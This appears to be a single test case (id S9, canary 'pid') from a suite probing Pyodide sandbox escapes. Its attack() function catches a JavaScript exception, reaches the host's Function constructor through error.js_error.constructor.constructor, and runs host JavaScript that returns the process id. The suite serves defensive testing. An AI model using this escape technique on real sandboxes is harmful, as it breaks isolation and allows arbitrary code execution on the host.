"""From an exception of the host to its Function constructor.

id: S9
canary: pid
"""

import pyodide_js
from pyodide.ffi import JsException


def attack(target):
    try:
        pyodide_js.FS.readFile("/nope")
    except JsException as error:
        make = error.js_error.constructor.constructor
        return make("return `pid ${process.pid}`")()
